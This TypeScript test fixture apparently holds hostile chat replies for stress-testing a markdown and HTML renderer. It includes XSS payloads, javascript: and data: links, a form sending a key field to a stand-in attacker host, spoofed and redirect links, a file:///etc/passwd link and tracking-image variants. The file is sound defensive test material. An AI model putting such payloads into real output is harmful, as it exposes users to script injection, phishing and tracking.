/** Replies that break careless parsers and renderers, by name. */
export const hostileReplies = {
  quotes: () => '>'.repeat(2000),
  list: () =>
    Array.from({ length: 1000 }, (_, depth) => `${'  '.repeat(depth)}- level ${depth + 1}`).join(
      '\n',
    ),
  math: () => `$${'{'.repeat(5000)}x${'}'.repeat(5000)}$`,
  fractions: () => `$$${'\\frac{1}{'.repeat(2000)}x${'}'.repeat(2000)}$$`,
  line: () => 'abcdefghi '.repeat(500_000),
  word: () => 'a'.repeat(5_000_000),
  fence: () => `\`\`\`ts\n${'const value = 1\n'.repeat(62_500)}\`\`\``,
  brackets: () => '['.repeat(50_000),
  emphasis: () => `${'*a '.repeat(20_000)}${'_b '.repeat(20_000)}`,
  tables: () =>
    `|${'a|'.repeat(2000)}\n|${'-|'.repeat(2000)}\n${`|${'b|'.repeat(2000)}\n`.repeat(20)}`,
  html: () => rawHtml.join('\n\n'),
  images: () => imageForms.join('\n\n'),
  links: () => hostileLinks.join('\n\n'),
  zalgo: () =>
    `${[...'simulated'].map((letter) => letter + '\u0301\u0316\u0334'.repeat(40)).join('')}\n\n\u202Eright to left\u202C \u200B\u200D\uFEFFinvisible`,
} as const satisfies Readonly<Record<string, () => string>>

export type HostileKind = keyof typeof hostileReplies
export const hostileKinds = Object.keys(hostileReplies) as readonly HostileKind[]

const rawHtml = [
  '<script>window.broken = true</script>',
  '<img src=x onerror="window.broken = true">',
  '<svg onload="window.broken = true"><circle r="9"/></svg>',
  '<iframe src="https://evil.example.com" srcdoc="<script>parent.broken = true</script>"></iframe>',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example.com"><input name="key"><button>Go</button></form>',
  '<a href="javascript:window.broken = true">here</a>',
  '<base href="https://evil.example.com/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.com">',
  '<object data="https://evil.example.com/x.swf"></object><embed src="https://evil.example.com/x">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.broken = true">',
  '<!-- a comment --><details open ontoggle="window.broken = true"><summary>x</summary></details>',
] as const

const hostileLinks = [
  '[a](javascript:alert(1))',
  '[b](JaVaScRiPt:alert(1))',
  '[c](data:text/html,<script>alert(1)</script>)',
  '[d](vbscript:msgbox)',
  '[e](file:///etc/passwd)',
  '[https://aws.amazon.com](https://evil.example.com)',
  '[f](https://aws.amazon.com@evil.example.com)',
  '[g](https://xn--mazon-3ve.example.com)',
  '[h](//evil.example.com)',
  '[i](app://main/index.html)',
  '[j](mailto:someone@example.com)',
  '[k](&#106;avascript:alert(1))',
  '[l](https://example.com/\u202Egpj.exe)',
  '[m][reference]',
  '<javascript:alert(1)>',
  '[reference]: javascript:alert(1)',
] as const

const imageHosts = [
  'tracker.example.com',
  'images.example.net',
  'cdn.example.org',
  'pixel.example.io',
  '198.51.100.7',
] as const

/** Sixty ways to ask for a remote image: twelve forms for each of five hosts. */
const imageForms = imageHosts.flatMap(imageFormsOf)

/** Twelve ways to ask this host for an image. */
export function imageFormsOf(host: string, index = 0): readonly string[] {
  return [
    `![one](https://${host}/one.png)`,
    `![two](http://${host}/two.png "A title")`,
    `![three](<https://${host}/three four.png>)`,
    `![four][image-${index}-a]\n\n[image-${index}-a]: https://${host}/four.png`,
    `![image-${index}-b][]\n\n[image-${index}-b]: https://${host}/five.png`,
    `![image-${index}-c]\n\n[image-${index}-c]: https://${host}/six.png`,
    `[![seven](https://${host}/seven.png)](https://${host}/)`,
    `![eight](//${host}/eight.png)`,
    `<img src="https://${host}/nine.png" srcset="https://${host}/nine-2x.png 2x">`,
    `<picture><source srcset="https://${host}/ten.webp"><img src="https://${host}/ten.png"></picture>`,
    `<div style="background:url(https://${host}/eleven.png)"></div>`,
    `$\\includegraphics{https://${host}/twelve.png}$`,
  ]
}
